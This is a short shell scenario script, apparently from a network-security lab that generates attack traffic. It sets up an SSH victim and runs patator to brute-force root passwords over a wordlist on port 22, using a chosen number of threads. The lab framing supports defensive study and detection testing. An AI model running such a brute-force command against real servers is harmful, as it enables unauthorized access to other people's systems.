# SPDX-License-Identifier: MIT
# label: bruteforce-ssh
# source: lab-patator
# needs: patator sshd
# seconds: 60
# Passwords for ssh by patator, from inside to a neighbour or to the outside.
. $lab/victims.sh

servers() {
	_to=$(choose c z)
	victim_ssh "$_to" 22
	words_up 60
}

scenario() {
	_tasks=$(choose 1 3 8)
	setting options "-t $_tasks, a to $_to"
	# It takes the end of its input for a key and prints without end.
	sleep 60 | attack a "$_to" tcp 22 \
		-- timeout 50 patator ssh_login "host=$(addr "$_to")" user=root \
		password=FILE0 "0=$work/words" -t "$_tasks" -x ignore:mesg='Authentication failed.'
}
